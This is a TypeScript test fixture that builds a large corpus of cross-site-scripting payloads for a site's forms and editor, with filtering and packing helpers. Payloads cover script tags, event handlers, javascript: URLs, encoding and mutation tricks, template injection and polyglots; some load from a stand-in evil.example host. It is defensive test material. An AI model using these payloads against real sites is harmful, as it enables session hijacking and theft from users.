/**
 * Our own corpus of cross-site-scripting payloads for the forms, the editor and the pages that
 * show what they saved. Every payload, if a page ever executed it, calls a marker the browser test
 * watches: `__xss()` (a function the test exposes in every frame) or one of alert/confirm/prompt
 * (a dialog the test listens for). Grouped by technique; `XSS_CORPUS` is the de-duplicated whole.
 */

export const MARK = '__xss()'

/** `text` as decimal, hex and zero-padded character references, the tricks parsers accept. */
const decimal = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('')
const hex = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)?.toString(16)};`).join('')
const padded = (text: string) => [...text].map((c) => `&#000${c.codePointAt(0)}`).join('')
const percent = (text: string) =>
  [...text].map((c) => `%${(c.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`).join('')
const jsEscaped = (text: string) =>
  [...text].map((c) => `\\u${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`).join('')
const fromCharCodes = (text: string) => [...text].map((c) => c.codePointAt(0)).join(',')

const scriptTags = [
  `<script>${MARK}</script>`,
  `<SCRIPT>${MARK}</SCRIPT>`,
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<script >${MARK}</script >`,
  `<script/x>${MARK}</script>`,
  `<script\n>${MARK}</script>`,
  `<script type="text/javascript">${MARK}</script>`,
  `<script type="module">${MARK}</script>`,
  `<script language="javascript">${MARK}</script>`,
  `<script>alert(1)</script>`,
  `<script>confirm(1)</script>`,
  `<script>prompt(1)</script>`,
  `<script>window['__x'+'ss']()</script>`,
  `<script>eval('__x'+'ss()')</script>`,
  `<script>setTimeout('${MARK}')</script>`,
  `<script>Function('${MARK}')()</script>`,
  `<script>[].constructor.constructor('${MARK}')()</script>`,
  `<script>top.__xss()</script>`,
  `<script>self.__xss()</script>`,
  `<script>parent.__xss()</script>`,
  `<script>${jsEscaped('__xss')}()</script>`,
  `<script>eval(String.fromCharCode(${fromCharCodes(MARK)}))</script>`,
  `<script>eval(atob('${Buffer.from(MARK).toString('base64')}'))</script>`,
  `<script src="data:text/javascript,${MARK}"></script>`,
  `<script src=data:,${MARK}></script>`,
  `<script src="javascript:${MARK}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>/*</script><script>*/${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<<script>${MARK}//<</script>`,
  `<script<{alert(1)}/></script>`,
  `</script><script>${MARK}</script>`,
  `<!--<script>--><script>${MARK}</script>`,
  `<![CDATA[<script>${MARK}</script>]]>`,
  `<script>\`\${__xss()}\`</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
]

/** Tags and the event that fires on each without a click. */
const autoFiring: [string, string][] = [
  ['<img src=x onerror=X>', 'onerror'],
  ['<img src="x" onerror="X">', 'onerror'],
  ["<img src='x' onerror='X'>", 'onerror'],
  ['<img src=x onerror=X//', 'onerror'],
  ['<img/src=x/onerror=X>', 'onerror'],
  ['<img src=x:x onerror=X>', 'onerror'],
  ['<IMG SRC=x ONERROR=X>', 'onerror'],
  ['<img src=x oNeRrOr=X>', 'onerror'],
  ['<img src=x onerror\t=X>', 'onerror'],
  ['<img src=x onerror =X>', 'onerror'],
  ['<img src= onerror=X>', 'onerror'],
  ['<img src onerror=X>', 'onerror'],
  ['<img src=x onerror=X alt=""">', 'onerror'],
  ['<img srcset=x onerror=X>', 'onerror'],
  ['<picture><source srcset=x><img onerror=X></picture>', 'onerror'],
  ['<svg onload=X>', 'onload'],
  ['<svg/onload=X>', 'onload'],
  ['<svg onload=X//', 'onload'],
  ['<svg><g onload=X></g></svg>', 'onload'],
  ['<body onload=X>', 'onload'],
  ['<body onpageshow=X>', 'onpageshow'],
  ['<body onhashchange=X>', 'onhashchange'],
  ['<body onfocus=X>', 'onfocus'],
  ['<body onresize=X>', 'onresize'],
  ['<frameset onload=X>', 'onload'],
  ['<iframe onload=X>', 'onload'],
  ['<iframe src=x onload=X></iframe>', 'onload'],
  ['<object data=x onerror=X>', 'onerror'],
  ['<embed src=x onload=X>', 'onload'],
  ['<link rel=stylesheet href=x onerror=X>', 'onerror'],
  ['<link rel=preload as=image href=x onload=X>', 'onload'],
  ['<style onload=X></style>', 'onload'],
  ['<video src=x onerror=X>', 'onerror'],
  ['<video><source onerror=X></video>', 'onerror'],
  ['<video poster=x onloadstart=X>', 'onloadstart'],
  ['<audio src=x onerror=X>', 'onerror'],
  ['<audio src onloadstart=X>', 'onloadstart'],
  ['<track default src=x onerror=X>', 'onerror'],
  ['<input autofocus onfocus=X>', 'onfocus'],
  ['<input onblur=X autofocus><input autofocus>', 'onblur'],
  ['<input type=image src=x onerror=X>', 'onerror'],
  ['<input type=text value=a onfocusin=X autofocus>', 'onfocusin'],
  ['<textarea autofocus onfocus=X>', 'onfocus'],
  ['<select autofocus onfocus=X>', 'onfocus'],
  ['<button autofocus onfocus=X>', 'onfocus'],
  ['<keygen autofocus onfocus=X>', 'onfocus'],
  ['<a id=x tabindex=1 onfocus=X></a>', 'onfocus'],
  ['<div contenteditable autofocus onfocus=X>', 'onfocus'],
  ['<details open ontoggle=X>', 'ontoggle'],
  ['<details ontoggle=X open><summary>a</summary></details>', 'ontoggle'],
  ['<div popover id=p onbeforetoggle=X>', 'onbeforetoggle'],
  ['<marquee onstart=X>', 'onstart'],
  ['<marquee loop=1 onfinish=X>', 'onfinish'],
  ['<div style="animation-name:spin" onanimationstart=X>', 'onanimationstart'],
  ['<div style="transition:color 1s" ontransitionrun=X>', 'ontransitionrun'],
  ['<div onmouseover=X style="position:fixed;inset:0">', 'onmouseover'],
  ['<div onpointerenter=X style="position:fixed;inset:0">', 'onpointerenter'],
  ['<div onpointermove=X>', 'onpointermove'],
  ['<div onclick=X>click</div>', 'onclick'],
  ['<div ondblclick=X>', 'ondblclick'],
  ['<div onwheel=X>', 'onwheel'],
  ['<div oncopy=X>', 'oncopy'],
  ['<div onpaste=X contenteditable>', 'onpaste'],
  ['<div onscroll=X style="overflow:auto;height:1px">', 'onscroll'],
  ['<div onscrollend=X>', 'onscrollend'],
  ['<div oncontentvisibilityautostatechange=X style="content-visibility:auto">', 'oncontentvisibility'],
  ['<form onsubmit=X><button>go</button></form>', 'onsubmit'],
  ['<form oninput=X><input></form>', 'oninput'],
  ['<form onreset=X>', 'onreset'],
  ['<table background=x onerror=X>', 'onerror'],
  ['<table><td onmouseover=X>', 'onmouseover'],
  ['<math onclick=X>', 'onclick'],
  ['<math><mtext onmouseover=X>', 'onmouseover'],
  ['<xss onafterscriptexecute=X><script>1</script>', 'onafterscriptexecute'],
  ['<xss onbeforescriptexecute=X><script>1</script>', 'onbeforescriptexecute'],
  ['<custom-tag onfocus=X tabindex=1 id=y>', 'onfocus'],
  ['<x onmouseenter=X>', 'onmouseenter'],
  ['<html onmouseover=X>', 'onmouseover'],
  ['<p onauxclick=X>', 'onauxclick'],
  ['<span onkeydown=X tabindex=0>', 'onkeydown'],
  ['<h1 ondrag=X draggable=true>', 'ondrag'],
  ['<svg><animate onbegin=X attributeName=x dur=1s>', 'onbegin'],
  ['<svg><set onbegin=X attributeName=x to=1>', 'onbegin'],
  ['<svg><animatetransform onbegin=X>', 'onbegin'],
  ['<svg><discard onbegin=X>', 'onbegin'],
  ['<svg><image href=x onerror=X>', 'onerror'],
  ['<svg><foreignObject><img src=x onerror=X></foreignObject></svg>', 'onerror'],
  ['<bgsound src=x onerror=X>', 'onerror'],
  ['<isindex type=image src=x onerror=X>', 'onerror'],
  ['<meter onmouseover=X>0</meter>', 'onmouseover'],
  ['<dialog open onclose=X>', 'onclose'],
  ['<slot onslotchange=X>', 'onslotchange'],
]

/** Each tag with the marker, and again with alert() where a dialog is the signal. */
const eventHandlers = autoFiring.flatMap(([tag], index) =>
  index % 4 === 0 ? [tag.replace('X', MARK), tag.replace('X', 'alert(1)')] : [tag.replace('X', MARK)],
)

const jsUrl = `javascript:${MARK}`
const javascriptUrls = [
  jsUrl,
  `JavaScript:${MARK}`,
  `JAVASCRIPT:${MARK}`,
  ` javascript:${MARK}`,
  `\tjavascript:${MARK}`,
  `java\tscript:${MARK}`,
  `java\nscript:${MARK}`,
  `java\rscript:${MARK}`,
  `javascript&colon;${MARK}`,
  `javascript&#58;${MARK}`,
  `javascript&#x3a;${MARK}`,
  `javascript&#0000058${MARK}`,
  `&#106;avascript:${MARK}`,
  `&#x6A;avascript:${MARK}`,
  `${decimal('javascript:')}${MARK}`,
  `${hex('javascript:')}${MARK}`,
  `${padded('javascript:')}${MARK}`,
  `${decimal(jsUrl)}`,
  `${hex(jsUrl)}`,
  `jav&#x09;ascript:${MARK}`,
  `jav&#x0A;ascript:${MARK}`,
  `jav&#x0D;ascript:${MARK}`,
  `jav&Tab;ascript:${MARK}`,
  `jav&NewLine;ascript:${MARK}`,
  `&#14;javascript:${MARK}`,
  `javascript://%0a${MARK}`,
  `javascript://comment%0d%0a${MARK}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${MARK}>*/`,
  `${percent('javascript')}:${MARK}`,
  `javascript:${percent(MARK)}`,
  `javascript:eval('${jsEscaped('__xss')}()')`,
  `javascript:void(${MARK})`,
  `javascript:alert(1)`,
  `javascript:confirm(1)`,
  `javascript:prompt(1)`,
  `jAvAsCrIpT:${MARK}`,
  `vbscript:msgbox(1)`,
  `livescript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${MARK}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg onload=${MARK}>`,
  `data:application/javascript,${MARK}`,
  `DATA:text/html,<script>${MARK}</script>`,
  `jaｖascript:${MARK}`,
  `javascript\u00ad:${MARK}`,
  `javascript\u200b:${MARK}`,
  `java\u2028script:${MARK}`,
  `javascript:\u2028${MARK}`,
  `https://evil.example/"onmouseover="${MARK}`,
  `//evil.example/%0a${MARK}`,
  `/\\evil.example/${MARK}`,
  `\\\\evil.example\\${MARK}`,
]

/** The URLs above in every attribute that takes a URL. */
const urlAttributes = [
  (url: string) => `<a href="${url}">enlace</a>`,
  (url: string) => `<a href=${url}>enlace</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>ir</button></form>`,
  (url: string) => `<button formaction="${url}">ir</button>`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<math href="${url}">x</math>`,
  (url: string) => `<area href="${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `[enlace](${url})`,
]
const urlPayloads = javascriptUrls.flatMap((url, index) => [
  url,
  (urlAttributes[index % urlAttributes.length] ?? urlAttributes[0])?.(url) ?? url,
])

const attributeBreaking = [
  `"><script>${MARK}</script>`,
  `'><script>${MARK}</script>`,
  `"><img src=x onerror=${MARK}>`,
  `'><img src=x onerror=${MARK}>`,
  `"><svg onload=${MARK}>`,
  `" onmouseover="${MARK}`,
  `' onmouseover='${MARK}`,
  `" autofocus onfocus="${MARK}`,
  `' autofocus onfocus='${MARK}`,
  `" onfocus=${MARK} autofocus x="`,
  `\` onmouseover=${MARK} \``,
  `" style="animation-name:spin" onanimationstart="${MARK}`,
  `"/><script>${MARK}</script>`,
  `"></a><script>${MARK}</script>`,
  `"></title><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</style><script>${MARK}</script>`,
  `</noscript><script>${MARK}</script>`,
  `</template><script>${MARK}</script>`,
  `</select><img src=x onerror=${MARK}>`,
  `</option></select><svg onload=${MARK}>`,
  `</iframe><script>${MARK}</script>`,
  `</xmp><script>${MARK}</script>`,
  `</plaintext><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `--!><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `&quot;&gt;&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${MARK}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${MARK}&#x3E;`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${MARK}\\x3c/script\\x3e`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `%253Cscript%253E${MARK}%253C/script%253E`,
  `＜script＞${MARK}＜/script＞`,
  `\uff1cimg src=x onerror=${MARK}\uff1e`,
  `<img src=x onerror=&#95;&#95;xss()>`,
  `<img src=x onerror=&#x5f;&#x5f;xss&#x28;&#x29;>`,
  `<img src=x onerror="${decimal(MARK)}">`,
  `<img src=x onerror="${hex(MARK)}">`,
  `<img src=x onerror=\\u005f_xss()>`,
  `<img src=x onerror=eval('\\x5f_xss()')>`,
  `<img src=x onerror=window[atob('X194c3M=')]()>`,
  `<img src=x onerror=top['__x'+'ss']()>`,
  `<img src=x onerror=location='javascript:${MARK}'>`,
  `<img src=x onerror=import('data:text/javascript,${MARK}')>`,
  `<img src="x` + '`' + ` onerror=${MARK}>`,
  `<img """><script>${MARK}</script>">`,
  `<img src="x" alt="" onerror="${MARK}" />`,
  `<a href="#" onclick="${MARK};return false">pincha</a>`,
  `<a href=# onclick=alert(1)>pincha</a>`,
  `"';${MARK};//`,
  `';${MARK};//`,
  `";${MARK};//`,
  `\\';${MARK};//`,
  `'-${MARK}-'`,
  `"-${MARK}-"`,
  `</script><svg/onload=${MARK}>`,
  `\\"-${MARK}}//`,
  `{"a":"</script><script>${MARK}</script>"}`,
  `\u2028${MARK}\u2029`,
]

const svgAndMath = [
  `<svg><script>${MARK}</script></svg>`,
  `<svg><script href="data:,${MARK}"/></svg>`,
  `<svg><script xlink:href="data:,${MARK}"></script></svg>`,
  `<svg><script>&#95;_xss()</script></svg>`,
  `<svg><style><img src=x onerror=${MARK}></style></svg>`,
  `<svg><title><script>${MARK}</script></title></svg>`,
  `<svg><desc><img src=x onerror=${MARK}></desc></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${MARK}'/></svg>#x"/></svg>`,
  `<svg><animate attributeName=href values=javascript:${MARK} /><a><text y=1em>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${MARK} />`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${MARK}</handler></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"/>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss()</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${MARK}>">`,
  `<math><mi xlink:href="javascript:${MARK}">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${MARK}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></mglyph></table></mtext></math>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${MARK}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${MARK}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${MARK}></annotation-xml></math>`,
  `<noembed><img title="</noembed><img src=x onerror=${MARK}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${MARK}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${MARK}>"></xmp>`,
  `<iframe><img title="</iframe><img src=x onerror=${MARK}>"></iframe>`,
  `<textarea><img title="</textarea><img src=x onerror=${MARK}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${MARK}>"></title>`,
  `<template><script>${MARK}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${MARK}></template>`,
]

const templateInjection = [
  `{{constructor.constructor('${MARK}')()}}`,
  `{{$on.constructor('${MARK}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${MARK}//');}}`,
  `{{[].pop.constructor('alert(1)')()}}`,
  `{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${MARK}"].sort(toString.constructor)}}`,
  `{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=${MARK}');}}`,
  `\${${MARK}}`,
  `\${alert(1)}`,
  `#{${MARK}}`,
  `<%= ${MARK} %>`,
  `{{= ${MARK}}}`,
  `{{{${MARK}}}}`,
  `{{- '<script>${MARK}</script>' }}`,
  `{{html}}<script>${MARK}</script>`,
  `[[${MARK}]]`,
  `{% raw %}<script>${MARK}</script>{% endraw %}`,
  `$t(common:brand)<script>${MARK}</script>`,
  `{{name}}<img src=x onerror=${MARK}>`,
  `{{#each this}}<img src=x onerror=${MARK}>{{/each}}`,
  `<div v-html="'<img src=x onerror=${MARK}>'"></div>`,
  `<div ng-app>{{constructor.constructor('${MARK}')()}}</div>`,
  `<div x-data x-init="${MARK}"></div>`,
  `<div data-bind="html:'<img src=x onerror=${MARK}>'"></div>`,
  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${MARK}>'}}>`,
]

const cssTricks = [
  `<div style="background:url(javascript:${MARK})">`,
  `<div style="width:expression(${MARK})">`,
  `<div style="xss:expr/**/ession(${MARK})">`,
  `<div style="behavior:url(x.htc)">`,
  `<div style="-moz-binding:url(data:text/xml,x#xss)">`,
  `<style>@import 'javascript:${MARK}';</style>`,
  `<style>body{background:url("javascript:${MARK}")}</style>`,
  `<style>*{x:expression(${MARK})}</style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${MARK}">`,
  `<link rel=stylesheet href="javascript:${MARK}">`,
  `<div style="background-image:url(&#1;javascript:${MARK})">`,
  `<p style="color:red;}</style><script>${MARK}</script>">`,
  `<div style=";x:\\65xpression(${MARK})">`,
  `<img style="xss:expression(${MARK})">`,
  `<span style="font-family:'</style><script>${MARK}</script>'">`,
]

const framesAndNavigation = [
  `<iframe srcdoc="<script>parent.__xss()</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__xss()&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__xss()</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe src="//www.youtube-nocookie.com.evil.example/embed/x"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="${MARK}"></iframe>`,
  `<frame src="javascript:${MARK}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`,
  `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${MARK}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta charset="UTF-7">+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<base href="javascript:/"><a href="${MARK}">x</a>`,
  `<base href="//evil.example/">`,
  `<object data="data:text/html,<script>parent.__xss()</script>"></object>`,
  `<object type="text/x-scriptlet" data="//evil.example/x.sct"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${MARK}>">`,
  `<portal src="javascript:${MARK}">`,
  `<form id=f></form><button form=f formaction="javascript:${MARK}">x</button>`,
  `<form><input type=submit formaction=javascript:${MARK} value=x></form>`,
  `<isindex action=javascript:${MARK} type=submit>`,
  `<a href="javascript:${MARK}" target="_blank" rel="opener">nueva</a>`,
  `<a href=javascript:${MARK} ping=//evil.example>x</a>`,
  `<a download href="data:text/html,<script>${MARK}</script>">x</a>`,
  `<applet code="javascript:${MARK}"></applet>`,
]

const splitting = [
  `<scr\u0000ipt>${MARK}</scr\u0000ipt>`,
  `<img src=x on\u0000error=${MARK}>`,
  `java\u0000script:${MARK}`,
  `<a href="java\u0000script:${MARK}">x</a>`,
  `\u0000<script>${MARK}</script>`,
  `<script>${MARK}</script>\u0000`,
  `<img\u000bsrc=x\u000bonerror=${MARK}>`,
  `<img\u000csrc=x\u000conerror=${MARK}>`,
  `<svg\u001fonload=${MARK}>`,
  `<img src=x\u0007onerror=${MARK}>`,
  `<scr\u00adipt>${MARK}</scr\u00adipt>`,
  `<scr\u200bipt>${MARK}</scr\u200bipt>`,
  `<img src=x \u202eonerror=${MARK}>`,
  `\u202e>tpircs/<${MARK}>tpircs<`,
  `<img src=x onerror\u3000=${MARK}>`,
  `<img src=x\u2028onerror=${MARK}>`,
  `<img src=x\u0085onerror=${MARK}>`,
  `%00<script>${MARK}</script>`,
  `%C0%BCscript%C0%BE${MARK}%C0%BC/script%C0%BE`,
  `\ufeff<script>${MARK}</script>`,
  `<script\ufeff>${MARK}</script>`,
  `<ſcript>${MARK}</ſcript>`,
  `<ımg src=x onerror=${MARK}>`,
  `<img src=x onerror=${MARK}\ud800>`,
  `\udfff<svg onload=${MARK}>`,
]

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${MARK} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${MARK}//>\\x3e`,
  `'">><marquee><img src=x onerror=${MARK}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script><script>alert(1)</script>`,
  `"'--></style></script><svg onload=${MARK}>`,
  `-->'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)\`\`>`,
  `"><img src=x onerror=${MARK}>{{constructor.constructor('${MARK}')()}}`,
  `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${MARK}//>`,
  `';alert(String.fromCharCode(88,83,83))//';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
  `<svg/onload=${MARK}><!--<img src=x onerror=${MARK}>-->`,
  `\`"'><img src=xxx:x onerror=${MARK}>`,
  `<<SCRIPT>${MARK};//<</SCRIPT>`,
  `<IMG """><SCRIPT>${MARK}</SCRIPT>">`,
  `<IMG SRC=JaVaScRiPt:${MARK}>`,
  `<IMG SRC=\`javascript:${MARK}\`>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC="jav&#x0D;ascript:${MARK};">`,
  `<BODY BACKGROUND="javascript:${MARK}">`,
  `<IMG DYNSRC="javascript:${MARK}">`,
  `<IMG LOWSRC="javascript:${MARK}">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:${MARK};">`,
  `<TABLE BACKGROUND="javascript:${MARK}">`,
  `<DIV STYLE="background-image: url(javascript:${MARK})">`,
  `<XSS STYLE="xss:expression(${MARK})">`,
]

const markupLookalikes = [
  `[pincha](javascript:${MARK})`,
  `[pincha](javascript&#58;${MARK})`,
  `![img](x" onerror="${MARK})`,
  `<javascript:${MARK}>`,
  `[a](<javascript:${MARK}>)`,
  `[a]: javascript:${MARK}`,
  `<http://evil.example/" onmouseover="${MARK}>`,
  `\`\`\`html\n<script>${MARK}</script>\n\`\`\``,
  `**<img src=x onerror=${MARK}>**`,
  `<!-- --><img src=x onerror=${MARK}>`,
  `<?xml-stylesheet href="javascript:${MARK}"?>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${MARK}</script>">]>&e;`,
  `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">${MARK}</x:script></xml>`,
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${MARK}</html:script>`,
  `mailto:x@example.com?body=<script>${MARK}</script>`,
  `https://example.com/?q=<script>${MARK}</script>`,
  `/contacto?x="><script>${MARK}</script>`,
  `#"><img src=x onerror=${MARK}>`,
]

/** Every payload once, in a stable order. */
export const XSS_CORPUS: readonly string[] = [
  ...new Set([
    ...scriptTags,
    ...eventHandlers,
    ...urlPayloads,
    ...attributeBreaking,
    ...svgAndMath,
    ...templateInjection,
    ...cssTricks,
    ...framesAndNavigation,
    ...splitting,
    ...polyglots,
    ...markupLookalikes,
  ]),
]

// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/
// eslint-disable-next-line no-control-regex
const CONTROL_BUT_LINE_BREAKS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/
/** Half a surrogate pair: no character at all; a browser sends U+FFFD in its place. */
const LONE_SURROGATE = /\p{Cs}/u

/** Payloads a one-line field accepts: no control character (line breaks included), no lone surrogate. */
export const singleLinePayloads = (max = Infinity) =>
  XSS_CORPUS.filter(
    (payload) =>
      !CONTROL.test(payload) &&
      !LONE_SURROGATE.test(payload) &&
      payload.trim() === payload &&
      payload.length <= max,
  )

/**
 * Payloads every form refuses: a control character other than a line break or tab. Only those a
 * request can carry (lone surrogates cannot be encoded; the schema tests cover them).
 */
export const controlPayloads = () =>
  XSS_CORPUS.filter((payload) => CONTROL_BUT_LINE_BREAKS.test(payload) && !LONE_SURROGATE.test(payload))

/** Payloads holding half a surrogate pair, refused like control characters. */
export const loneSurrogatePayloads = () => XSS_CORPUS.filter((payload) => LONE_SURROGATE.test(payload))

/**
 * Payloads joined into values of at most `max` characters (one payload per value when it alone
 * fills it), so a few form submissions carry the whole corpus.
 */
export function packPayloads(payloads: readonly string[], max: number, separator = ' '): string[] {
  const values: string[] = []
  let current = ''
  for (const payload of payloads) {
    if (payload.length > max) continue
    const next = current ? `${current}${separator}${payload}` : payload
    if (next.length <= max) current = next
    else {
      values.push(current)
      current = payload
    }
  }
  if (current) values.push(current)
  return values
}
